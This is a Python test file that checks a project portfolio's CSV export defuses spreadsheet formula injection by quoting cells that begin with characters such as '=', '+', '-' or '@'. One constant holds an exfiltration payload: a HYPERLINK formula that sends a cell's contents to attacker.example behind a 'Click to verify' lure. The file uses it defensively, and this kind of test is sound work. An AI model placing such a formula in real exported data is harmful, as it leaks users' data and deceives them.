"""The portfolio's CSV download: what a person typed is shown by a spreadsheet, never run."""

import csv
import io
from decimal import Decimal

import pytest

from tests.factories import PASSWORD, PersonFactory, ProjectFactory

# OWASP's list of what starts a formula in some spreadsheet (Excel, LibreOffice, Sheets).
LEADS = ["=", "+", "-", "@", "\t", "\r"]
LINK = 'HYPERLINK("https://attacker.example/?d="&A2,"Click to verify")'


def portfolio_rows(client) -> dict[str, dict[str, str]]:
    response = client.get("/projects/export.csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
    return {row["id"]: row for row in rows}


@pytest.mark.parametrize("lead", LEADS, ids=repr)
def test_text_that_starts_like_a_formula_gets_a_leading_quote(client, tree_a, nurse_a, lead):
    project = ProjectFactory(
        unit=tree_a.ward,
        lead=PersonFactory(provider=tree_a.provider, full_name=f"{lead}Lead"),
        title=f"{lead}{LINK}",
        aim_what=f"{lead}1+1",
    )
    client.login(username=nurse_a.email, password=PASSWORD)
    row = portfolio_rows(client)[str(project.pk)]
    assert row["title"] == f"'{lead}{LINK}"
    assert row["lead"] == f"'{lead}Lead"
    # The aim is a sentence from its parts, each stripped of spaces: it never starts like one.
    assert not row["aim"].startswith(tuple(LEADS))
    assert row["aim"] == ("1+1." if lead.isspace() else f"'{lead}1+1.")


def test_plain_text_and_numbers_are_written_as_they_are(client, tree_a, nurse_a):
    project = ProjectFactory(
        unit=tree_a.ward,
        lead=nurse_a,
        title="Falls: 50% fewer = safer",  # an "=" inside the text starts nothing
        progress_score=Decimal("2.5"),
    )
    client.login(username=nurse_a.email, password=PASSWORD)
    row = portfolio_rows(client)[str(project.pk)]
    assert row["title"] == "Falls: 50% fewer = safer"
    assert row["id"] == str(project.pk) and row["progress_score"] == "2.5"
